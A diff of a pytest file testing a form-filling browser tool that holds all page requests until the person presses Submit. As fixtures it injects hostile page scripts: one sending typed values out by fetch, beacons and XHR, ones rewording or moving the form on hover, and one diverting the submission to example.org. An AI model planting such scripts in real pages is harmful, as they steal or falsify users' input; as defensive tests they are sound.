@@ -2,69 +2,200 @@
 
 from __future__ import annotations
 
+import json
 from collections.abc import Callable
 from dataclasses import replace
+from pathlib import Path
 from typing import Any
 
+import pytest
+
 from automation.recording import Recording, load
+from elsewhere import wait_for
+from tls_site import Arrived, Site
 
-# A page that sends what is typed by itself, in every way that a fill can set off.
-HASTY = """<script nonce="drawn">
-const sent = "/ajax/help/contact/submit/page";
-const ways = [
-  (form, value) => fetch(sent, {method: "POST", body: value}),
-  (form, value) => fetch(sent, {method: "POST", body: value, keepalive: true}),
-  (form, value) => navigator.sendBeacon(sent, value),
-  (form, value) => fetch(sent + "?draft=" + encodeURIComponent(value)),
-  (form, value) => { new Image().src = sent + "?v=" + encodeURIComponent(value); },
-  (form, value) => { const x = new XMLHttpRequest(); x.open("PUT", sent); x.send(value); },
-  (form, value) => form.requestSubmit(),
-  (form, value) => form.querySelector("[type=submit]").click(),
-  (form, value) => { form.target = "hidden"; HTMLFormElement.prototype.submit.call(form);
-                     form.target = ""; },
-  (form, value) => HTMLFormElement.prototype.submit.call(form),
-];
-for (const type of ["input", "change", "focusin"]) {
-  document.addEventListener(type, (event) => {
-    const form = event.target.form;
-    if (!form || window.over) return;
-    for (const way of ways) {
-      for (const delay of [0, 60]) {
-        setTimeout(() => { try { way(form, event.target.value); } catch {} }, delay);
-      }
-    }
-    setTimeout(() => { window.over = true; }, 100);
-  }, true);
-}
-const frame = document.createElement("iframe");
-frame.name = "hidden";
-frame.hidden = true;
-document.body.append(frame);
-</script></body>"""
+SENT = "/ajax/help/contact/submit/page"
+READ = "fb_api_req_friendly_name=ContactFormContentQuery"
+HOSTILE = (Path(__file__).parent / "pages" / "hostile.js").read_text(encoding="utf-8")
+WORKER = f'fetch("{SENT}", {{ method: "POST", body: "from a worker" }});'
 
 
-def hasty(recording: Recording) -> Recording:
+class Counting:
+    """The site with a hostile form: its worker's script, and what came that could be the form."""
+
+    def __init__(self, site: Site) -> None:
+        self.site, plain = site, site.answer
+
+        def answer(request: Arrived) -> tuple[int, dict[str, str], str]:
+            if request.path == "/worker.js":
+                site.arrived.append(request)
+                return 200, {"Content-Type": "text/javascript"}, WORKER
+            if request.path == "/api/graphql/" and request.body.startswith(READ):
+                site.arrived.append(request)
+                return 200, {"Content-Type": "application/json"}, "{}"
+            return plain(request)
+
+        site.answer = answer  # type: ignore[method-assign]  # this test's site has more to tell
+
+    def came(self) -> list[str]:
+        """What arrived that could be a submission: all but pages, leads and reads."""
+        plain = {"/worker.js", "/favicon.ico"}
+        return [
+            f"{a.method} {a.path} {a.body[:40]}"
+            for a in self.site.arrived
+            if not (a.method == "GET" and "?" not in a.path and a.path != "/socket")
+            and not a.path.startswith("/__lead/")
+            and a.path not in plain
+            and not (a.path == "/api/graphql/" and a.body.startswith(READ))
+        ]
+
+    def carrying(self) -> list[str]:
+        """What arrived with a value of the person in it, in any of the usual guises."""
+        marks = ("anna", "YW5uYUBleGFtcGxl", "object+to", "object%20to", "object to")
+        return [a.path for a in self.site.arrived if any(m in a.path + a.body for m in marks)]
+
+
+def hostile(recording: Recording) -> Recording:
     """The recording with a form that cannot wait."""
+    return scripted(recording, f'<iframe name="aside" hidden></iframe><script>{HOSTILE}</script>')
+
+
+def scripted(recording: Recording, script: str) -> Recording:
+    """The recording with this at the end of its form page, and no CSP that would stop it."""
     pages = tuple(
-        replace(page, html=page.html.replace("</body>", HASTY)) if page.name == "form" else page
+        replace(page, html=page.html.replace("</body>", "</body>" + script), headers={})
+        if page.name == "form"
+        else page
         for page in recording.pages
     )
     return replace(recording, pages=pages)
 
 
-def test_nothing_is_sent_before_the_hand_over(started: Callable[..., Any]) -> None:
-    """A page that submits by itself while it is filled sends nothing; the person's one arrives.
+def held(report: dict[str, Any]) -> list[tuple[str, str]]:
+    """What the bundle's log says was held back: method, address."""
+    lines = (Path(report["evidence"]) / "data" / "log.jsonl").read_text().splitlines()
+    events = [json.loads(line) for line in lines]
+    return [(e["method"], e["address"]) for e in events if e["event"] == "held back"]
 
-    With the lock off, the page's own submissions arrive and the form is gone before the review.
+
+def test_only_the_persons_submission_arrives(started: Callable[..., Any]) -> None:
+    """A page that sends by itself at load, on focus, on input and all the time sends nothing.
+
+    Neither before the hand-over nor after it, until the person presses Submit: then exactly
+    theirs arrives. Its GraphQL read passes. What was held is in the log, by host and path.
     """
-    site, run, page = started(hasty(load("instagram-privacy-center-en")))
+    site, run, page = started(hostile(load("instagram-privacy-center-en")))
+    counting = Counting(site)
     run.told("Read it, change what you like")
-    values = [a for a in site.arrived if "anna" in a.path + a.body or "object+to" in a.body]
-    assert site.sent() == []
-    assert values == []
+    form = page("contact/")
+    form.wait_for_timeout(1_500)
+    assert counting.came() == []
+    assert counting.carrying() == []
+    assert form.locator("html").get_attribute("data-read") == "200"
 
-    page("contact/").get_by_role("button", name="Submit").click()
+    submit = form.get_by_role("button", name="Submit")
+    submit.hover()
+    form.wait_for_timeout(500)  # what the page has under way at the press would go with it
+    submit.click()
     report = run.report()
 
     assert report["outcome"] == "sent"
-    assert [a.path for a in site.sent()] == ["/ajax/help/contact/submit/page"]
+    assert [line.split()[:2] for line in counting.came()] == [["POST", SENT]]
+    told = held(report)
+    assert ("POST", f"https://help.instagram.com{SENT}") in told
+    assert ("SOCKET", "wss://help.instagram.com/socket") in told
+    assert not [address for _, address in told if "?" in address]
+
+
+# Once the person's mouse is on the button, the page changes what they are about to send.
+BEFORE_THE_PRESS = """<script>
+document.addEventListener("pointerover", (event) => {
+  if (!event.isTrusted || event.target.type !== "submit" || window.done) return;
+  window.done = true;
+  const form = document.querySelector("form");
+  const box = document.querySelector("textarea[data-testid]");
+  %s
+}, true);
+</script>"""
+REWORDS = BEFORE_THE_PRESS % 'box.value = "I agree to everything.";'
+REPLACES = BEFORE_THE_PRESS % "form.replaceWith(form.cloneNode(true));"
+MOVES = BEFORE_THE_PRESS % (
+    'const other = document.createElement("form"); other.action = "/elsewhere"; '
+    'other.method = "post"; form.before(other); other.append(...form.childNodes);'
+)
+
+
+@pytest.mark.parametrize("script", [REWORDS, REPLACES, MOVES], ids=["text", "form", "moved"])
+def test_what_the_page_changes_is_reviewed_again(started: Callable[..., Any], script: str) -> None:
+    """A page that changes text or form at the last moment sends nothing at that press.
+
+    The person is told what has changed, and sends it by pressing again. Were a press taken
+    without comparing, the changed form would arrive at the first one.
+    """
+    site, run, page = started(scripted(load("instagram-privacy-center-en"), script))
+    run.told("Read it, change what you like")
+    form = page("contact/")
+    place = form.get_by_role("button", name="Submit").bounding_box()
+    assert place
+    form.mouse.click(place["x"] + 20, place["y"] + 10)  # at once, as the change comes
+    form.wait_for_timeout(300)
+    assert site.sent() == []
+    run.told("the page itself has changed: ")
+
+    form.get_by_role("button", name="Submit").click()
+    wait_for(site.sent, "the submission")
+    form.wait_for_timeout(500)
+    form.close()
+
+    assert len(site.sent()) == 1
+
+
+DIVERTS = """<script>
+document.querySelector("form").addEventListener("submit", (event) => {
+  event.stopImmediatePropagation();
+  event.preventDefault();
+  fetch("https://www.example.org/objections", { method: "POST", mode: "no-cors",
+    body: new URLSearchParams(new FormData(event.target)) });
+}, true);
+</script>"""
+
+
+def test_what_was_filled_goes_to_no_other_host(started: Callable[..., Any]) -> None:
+    """A press that a page answers by sending the form to another host sends nothing there."""
+    _, run, page = started(scripted(load("instagram-privacy-center-en"), DIVERTS))
+    run.told("Read it, change what you like")
+    form = page("contact/")
+    form.get_by_role("button", name="Submit").click()
+    form.wait_for_timeout(500)
+    form.close()
+    report = run.report()
+
+    assert report["outcome"] == "left"
+    assert ("POST", "https://www.example.org/objections") in held(report)
+
+
+SECOND = """<a href="https://help.instagram.com/contact/767264225370182#2" target="_blank">More</a>
+<script>
+if (location.hash === "#2") setInterval(() => fetch("/second", { method: "POST" }), 100);
+</script>"""
+
+
+def test_a_press_opens_one_page_only(started: Callable[..., Any]) -> None:
+    """While the person has pressed in one tab, another one that sends by itself stays held.
+
+    With one gate for all pages, the second tab's requests arrive.
+    """
+    site, run, page = started(scripted(load("instagram-privacy-center-en"), SECOND))
+    run.told("Read it, change what you like")
+    form = page("contact/767264225370182$")
+    form.get_by_text("More", exact=True).click()
+    second = page("#2")
+    second.wait_for_timeout(1_000)
+    form.get_by_role("heading", name="Object to your information").click()
+    second.wait_for_timeout(1_000)
+    second.close()
+    form.close()
+    report = run.report()
+
+    assert [a.path for a in site.arrived if a.path == "/second"] == []
+    assert ("POST", "https://help.instagram.com/second") in held(report)
